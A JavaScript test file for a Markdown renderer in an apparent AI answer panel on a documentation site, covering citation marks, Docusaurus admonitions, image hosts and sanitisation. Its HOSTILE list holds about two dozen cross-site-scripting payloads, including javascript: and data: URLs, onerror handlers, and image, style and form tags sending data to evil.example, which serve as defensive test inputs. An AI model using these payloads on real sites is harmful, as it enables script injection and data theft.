import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { openDocument, source } from "./source.mjs";

openDocument();
const { blocksOf, inlineMarkdown } = await source("panel/markdown.ts");

/** The answer as it stands in the page, chips written as `[1]`. */
function shown(text, marks = []) {
  const root = document.createElement("div");
  for (const block of blocksOf(text, marks))
    root.append(block.render((number) => document.createTextNode(`[${number}]`)));
  return root;
}

describe("an answer", () => {
  test("is cut into blocks, so that what does not change is not drawn again", () => {
    const sources = (text) => blocksOf(text, []).map((block) => block.source.trim());
    assert.deepEqual(sources("# Title\n\nOne.\n\n- a\n- b"), ["# Title", "One.", "- a\n- b"]);
    assert.deepEqual(sources("One.\n\nTw").slice(0, 1), sources("One.\n\nTwo.").slice(0, 1));
  });

  test("keeps the alignment of tables, the start of lists, tasks and the language of code", () => {
    const root = shown("| a | b |\n| :- | -: |\n| 1 | 2 |\n\n- [x] done\n\n3. third\n\n```js\nlet a;\n```");
    assert.equal(root.querySelector("th:last-child").getAttribute("align"), "right");
    assert.ok(root.querySelector("input[type=checkbox]").disabled);
    assert.equal(root.querySelector("ol").start, 3);
    assert.equal(root.querySelector("code").className, "language-js");
  });

  test("resolves link definitions that stand in another block", () => {
    assert.equal(shown("See [it][1].\n\n[1]: https://example.org/a").querySelector("a").href, "https://example.org/a");
  });

  test("writes a remark of the gateway in one line", () => {
    const root = document.createElement("p");
    root.append(inlineMarkdown("Use `make` **now**"));
    assert.equal(root.innerHTML, "Use <code>make</code> <strong>now</strong>");
  });
});

describe("citation marks", () => {
  for (const [what, text, index, expected] of [
    ["stand where they belong", "One. Two.", 4, "<p>One.[1] Two.</p>"],
    ["stand behind code, not in it", "Run `make x`.", 8, "<p>Run <code>make x</code>[1].</p>"],
    ["stand behind bold words that end in a sign", "**So?**", 7, "<p><strong>So?</strong>[1]</p>"],
    ["stand before bold words", "**So**", 0, "<p>[1]<strong>So</strong></p>"],
    ["stand behind a link", "See [the page](/a).", 9, '<p>See <a href="/a">the page</a>[1].</p>'],
    ["vanish in an address", "See [it](/ab).", 11, '<p>See <a href="/ab">it</a>.</p>'],
    ["are held inside the text", "One.", 99, "<p>One.[1]</p>"],
    ["count UTF-16 units", "🚀 up", 2, "<p>🚀[1] up</p>"],
  ]) {
    test(what, () => assert.equal(shown(text, [{ index, number: 1 }]).innerHTML.trim(), expected));
  }

  test("cannot be forged by the model", () => {
    assert.equal(shown("\u2E3F1\u2E4F").textContent.trim(), "\uFFFD1\uFFFD");
  });
});

const HOSTILE = [
  "<script>hacked()</script>",
  "<img src=x onerror=hacked()>",
  '<a href="javascript:hacked()">x</a>',
  "[x](javascript:hacked())",
  "[x](JaVaScRiPt:hacked())",
  "[x](&#106;avascript:hacked())",
  "[x](java\tscript:hacked())",
  "[x](data:text/html,<script>hacked()</script>)",
  "[x](vbscript:hacked())",
  "[x](file:///etc/passwd)",
  "<javascript:hacked()>",
  "![x](https://evil.example/leak?q=1)",
  '![x](x" onerror="hacked())',
  '[x](https://example.org/ "t\\" onmouseover=\\"hacked()")',
  "<svg/onload=hacked()>",
  "<math><mi//xlink:href='data:x,<script>hacked()</script>'>",
  "<iframe srcdoc='<script>hacked()</script>'></iframe>",
  "<style>@import 'https://evil.example/'</style>",
  "<form action=https://evil.example/><button>x</button></form>",
  "<details open ontoggle=hacked()>",
  '```"><img src=x onerror=hacked()>\nx\n```',
  "`<img src=x onerror=hacked()>`",
  "| <img src=x onerror=hacked()> |\n| - |\n| <script>hacked()</script> |",
  "<!--><img src=x onerror=hacked()>-->",
  "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
  "[ref]\n\n[ref]: javascript:hacked()",
];
const HARMLESS = new Set(
  "A BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR INPUT LI OL P PRE STRONG TABLE TBODY TD TH THEAD TR UL".split(" "),
);
const HARMLESS_ATTRIBUTES = new Set(["align", "checked", "class", "disabled", "href", "start", "title", "type"]);

describe("nothing that a model writes runs, loads or leads elsewhere", () => {
  for (const text of HOSTILE) {
    test(JSON.stringify(text), () => {
      for (const element of shown(text).querySelectorAll("*")) {
        assert.ok(HARMLESS.has(element.tagName), `<${element.tagName}> came through`);
        for (const { name, value } of element.attributes) {
          assert.ok(HARMLESS_ATTRIBUTES.has(name), `${name}="${value}" came through`);
          if (name === "href") assert.match(new URL(value, location.href).protocol, /^(https?|mailto):$/);
        }
      }
    });
  }
});

describe("what Docusaurus writes beyond Markdown", () => {
  const blocks = (text) => shown(text).innerHTML.replace(/\n/g, "");

  for (const [what, text, expected] of [
    ["an admonition", ":::tip\n\nDo *this*.\n\n:::", ["tip", "Tip", "<p>Do <em>this</em>.</p>"]],
    ["its own title", ":::note[Read `me`]\nText\n:::", ["note", "Read `me`", "<p>Text</p>"]],
    ["a title behind the keyword", ":::warning Beware\nText\n:::", ["warning", "Beware", "<p>Text</p>"]],
    ["an admonition that still grows", ":::danger\nTex", ["danger", "Danger", "<p>Tex</p>"]],
    ["an alert as on GitHub", "> [!CAUTION]\n> Text", ["warning", "Caution", "<p>Text</p>"]],
    ["another keyword for the same", ":::important\nText\n:::", ["info", "Important", "<p>Text</p>"]],
  ]) {
    test(`${what} stands in its colour`, () => {
      const [kind, title, body] = expected;
      const head = `<blockquote class="admonition ${kind}"><p class="admonition-title">${title}</p>`;
      assert.equal(blocks(text), `${head}${body}</blockquote>`);
    });
  }

  test("an admonition holds another, and what follows is outside", () => {
    const root = shown("::::note\n\n:::tip\n\nIn.\n\n:::\n\n::::\n\nOut.");
    assert.equal(root.querySelector(".note .tip p:last-child").textContent, "In.");
    assert.equal(root.lastElementChild?.textContent, "Out.");
  });

  test("an unknown keyword and colons in a sentence are text", () => {
    assert.equal(shown(":::unheard\nText").querySelector(".admonition"), null);
    assert.equal(shown("a ::: note").querySelector(".admonition"), null);
  });

  test("a code block keeps its title", () => {
    const pre = shown('```js title="src/a.js" {1,3}\nlet a;\n```').querySelector("pre");
    assert.equal(pre.title, "src/a.js");
    assert.equal(pre.querySelector("code").className, "language-js");
  });

  test("a dollar is a dollar where formulas cannot be drawn", () => {
    assert.equal(shown("It costs $a_b$ or $5.").textContent.trim(), "It costs $a_b$ or $5.");
  });
});

describe("a picture", () => {
  test("of the page's own host is shown", () => {
    const picture = shown("![A cat](/img/cat.png)").querySelector("img");
    assert.equal(picture.getAttribute("src"), "https://docs.example.com/img/cat.png");
    assert.equal(picture.alt, "A cat");
  });

  for (const address of ["https://evil.example/a.png", "/logout", "data:image/svg+xml,x", "//evil.example/a.png"]) {
    test(`${address} becomes its description`, () => {
      const root = shown(`![A cat](${address})`);
      assert.equal(root.querySelector("img"), null);
      assert.equal(root.textContent.trim(), "A cat");
    });
  }
});
